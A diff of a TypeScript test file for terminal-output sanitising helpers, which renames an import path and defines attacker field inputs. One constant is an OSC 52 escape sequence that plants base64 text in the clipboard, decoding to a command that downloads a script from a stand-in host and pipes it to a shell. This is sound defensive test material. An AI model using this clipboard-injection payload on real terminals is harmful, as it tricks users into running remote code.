@@ -1,5 +1,5 @@
 import assert from "node:assert/strict";
-import { escapeUnsafe, safeJson, safeTable, safeText } from "./safe_text.ts";
+import { escapeUnsafe, safeJson, safeTable, safeText } from "./safe.ts";
 
 /** What an attacker puts in a field: OSC 52 clipboard write, CSI, C1 CSI, bidi, a forged row. */
 const OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07";
